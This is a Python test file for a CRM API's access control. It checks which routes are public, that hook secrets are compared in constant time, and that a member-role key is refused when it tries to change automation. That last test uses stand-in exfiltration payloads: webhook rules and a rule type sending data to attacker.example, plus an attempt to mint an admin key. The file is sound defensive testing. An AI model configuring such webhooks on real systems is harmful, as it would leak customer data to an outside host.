"""Who gets in without an API key, and what a member key may not do.

tests/api/test_api_auth.py walks every route outside the public prefixes with a missing, wrong, malformed and
empty key (401 each) and every route with a member key (403 exactly on configuration). This walks the route
table the other way round: every route is called without a key, and the routes that do not answer 401 must be
exactly the public ones listed here, so a new route (or a new route under a public prefix) cannot become
public unnoticed. Each public route other than the service's own is reached only through an unguessable
token (a well-formed token nobody was given is not found) or a signature made with a secret the server is
configured with (none here: the route takes nothing).
"""

from __future__ import annotations

import secrets
from http import HTTPStatus

from sqlmodel import select

from models.tables import HookSecret
from tests.api.support import api_routes
from tests.crm import automate, deal, ok, pipeline, user
from tests.security.findings import record

SERVICE = {
    ("GET", "/health"), ("GET", "/ready"), ("GET", "/openapi.json"), ("GET", "/docs"), ("GET", "/docs/oauth2-redirect"),
    ("GET", "/redoc"), ("GET", "/metrics"),
}
"""The service's own routes; /metrics asks for a key only when STAGEFLOW_METRICS_KEY is set (not here)."""
BY_TOKEN = {
    ("GET", "/public/documents/{token}"), ("GET", "/public/documents/{token}/{kind}"),
    ("GET", "/sign/{token}"), ("GET", "/sign/{token}/pdf"), ("GET", "/sign/{token}/signed.pdf"),
    ("POST", "/sign/{token}/code"), ("POST", "/sign/{token}"),
    ("GET", "/t/o/{token}.gif"), ("GET", "/t/c/{token}/{n}"),
    ("POST", "/hooks/{secret}"), ("POST", "/callbacks/{token}"),
}
BY_SIGNATURE = {
    ("POST", "/payments/stripe"), ("POST", "/channels/telegram/webhook"), ("GET", "/channels/whatsapp/webhook"),
    ("POST", "/channels/whatsapp/webhook"), ("POST", "/channels/calls/status"),
}
"""Providers' webhooks: Stripe's `Stripe-Signature` (tests/api/test_api_stripe.py); Telegram's secret token,
WhatsApp's `X-Hub-Signature-256` and verify token, the call provider's `X-Twilio-Signature`
(tests/channels/)."""


CONSOLE_SIGN_IN = {("GET", "/ui/login"), ("POST", "/ui/login")}
"""The console's sign-in page and form: the only console routes a request without a session gets an answer from
(the form itself refuses a post without the page's token: 403). Every other console route sends a page request
to the sign-in page and refuses any other call with 401."""


BODIES = {"/hooks/{secret}": {"deal_id": 1}, "/sign/{token}": {"code": "123456"}}


def with_token(path: str, token: str) -> str:
    return (path.replace("{token}", token).replace("{secret}", token).replace("{kind}", "pdf").replace("{n}", "0"))


async def test_only_the_listed_routes_answer_without_a_key_and_those_only_with_a_token(stack):
    routes = api_routes(stack.app)
    answered = {}
    for method, path in routes:
        token = secrets.token_urlsafe(32)
        concrete = with_token(path, token).replace("{entity}", "deal")
        for name in ("{pipeline_id}", "{item_id}", "{document_id}", "{index}"):
            concrete = concrete.replace(name, "1")
        concrete = concrete.replace("{part}", "rules").replace("{stage}", "NEW").replace("{simulation_id}", "0" * 16)
        response = await stack.anon.request(method, concrete, json=BODIES.get(path, {}), follow_redirects=False)
        signs_in = response.status_code == HTTPStatus.SEE_OTHER and response.headers["location"] == "/ui/login"
        answered[(method, path)] = HTTPStatus.UNAUTHORIZED if path.startswith("/ui/") and signs_in else response.status_code
    public = {route for route, status in answered.items() if status != HTTPStatus.UNAUTHORIZED}
    listed = SERVICE | BY_TOKEN | BY_SIGNATURE | CONSOLE_SIGN_IN
    assert public == listed, {
        "public but not listed": sorted(public - listed),
        "listed but asking for a key": sorted(listed - public),
    }
    for route in BY_TOKEN | BY_SIGNATURE:
        assert answered[route] == HTTPStatus.NOT_FOUND, (route, answered[route])
    for closing in ("revoke-link", "revoke-signing"):
        assert answered[("POST", f"/documents/{{document_id}}/{closing}")] == HTTPStatus.UNAUTHORIZED
    record("access", {
        "routes": len(routes),
        "routes_refusing_without_key": sum(status == HTTPStatus.UNAUTHORIZED for status in answered.values()),
        "public_service_routes": len(SERVICE),
        "public_token_routes": len(BY_TOKEN),
    })


async def test_a_member_key_cannot_change_automation_with_a_valid_request(stack):
    flow = await pipeline(stack.http, ["NEW", "PAID"])
    path = f"/pipelines/{flow['id']}/automation"
    saved = ok(await stack.http.put(path, json={"stages": {"NEW": {"rules": [
        {"name": "hello", "type": "add_timeline_entry", "settings": {"text": "Hello"}}]}}}))
    takeover = {"stages": {"NEW": {"rules": [
        {"name": "leak", "type": "webhook", "settings": {"url": "https://attacker.example/collect"}}]},
        "PAID": {"triggers": [{"name": "open", "type": "webhook"}]}}}
    attempts = {
        "PUT automation": await stack.member.put(path, json=takeover),
        "POST rule-types": await stack.member.post("/rule-types", json={
            "name": "exfiltrate", "title": "x", "handler_url": "https://attacker.example/run", "settings_schema": {}}),
        "POST api-keys": await stack.member.post("/api-keys", json={"name": "mine", "role": "admin"}),
        "PUT settings/calendar": await stack.member.put("/settings/calendar", json={"time_zone": "UTC"}),
    }
    assert {name: response.status_code for name, response in attempts.items()} == {
        name: HTTPStatus.FORBIDDEN for name in attempts}
    assert all(response.json()["detail"] for response in attempts.values())
    assert ok(await stack.member.get(path)) == saved
    assert [rule_type["name"] for rule_type in ok(await stack.http.get("/rule-types"))
            if rule_type["name"] == "exfiltrate"] == []
    assert [key["name"] for key in ok(await stack.http.get("/api-keys"))] == ["member"]


async def test_inbound_hook_secrets_are_long_random_and_checked_without_leaking_by_timing(stack, monkeypatch):
    import api.routes.hooks as hooks

    manager = await user(stack.http, "Manager")
    flow = await pipeline(stack.http, ["NEW", "PAID", "SHIPPED"])
    saved = await automate(stack.http, flow["id"], {
        "PAID": {"triggers": [{"name": "erp", "type": "webhook"}]},
        "SHIPPED": {"triggers": [{"name": "courier", "type": "webhook"}]},
    })
    urls = saved["hooks"]
    secrets_given = [url.rsplit("/", 1)[1] for url in urls.values()]
    assert len(set(secrets_given)) == 2 and all(len(secret) >= 43 for secret in secrets_given), secrets_given
    with stack.session() as session:
        stored = {row.secret for row in session.exec(select(HookSecret))}
    assert stored == set(secrets_given)
    item = await deal(stack.http, flow["id"], manager["id"])

    compared = []
    real_compare = hooks.hmac.compare_digest

    def spy(a, b):
        compared.append((a, b))
        return real_compare(a, b)

    monkeypatch.setattr(hooks.hmac, "compare_digest", spy)
    secret = urls["PAID/erp"].rsplit("/", 1)[1]
    flipped = [secret[:-1] + ("A" if secret[-1] != "A" else "B"), ("A" if secret[0] != "A" else "B") + secret[1:],
               secrets.token_urlsafe(32)[: len(secret)]]
    for wrong in flipped:
        assert len(wrong) == len(secret)
        refused = await stack.anon.post(f"/hooks/{wrong}", json={"deal_id": item["id"]})
        assert (refused.status_code, refused.json()) == (HTTPStatus.NOT_FOUND, {"detail": "Unknown webhook"})
    assert [pair for pair in compared if secret.encode() in pair] == [], (
        "a wrong secret was compared with the stored one: its timing could tell how much of it was right")
    accepted = await stack.anon.post(f"/hooks/{secret}", json={"deal_id": item["id"]})
    assert accepted.status_code == HTTPStatus.ACCEPTED, accepted.text
    assert (secret.encode(), secret.encode()) in compared
    record("hook_secrets", {"secret_length": len(secret), "wrong_same_length_refused": len(flipped)})
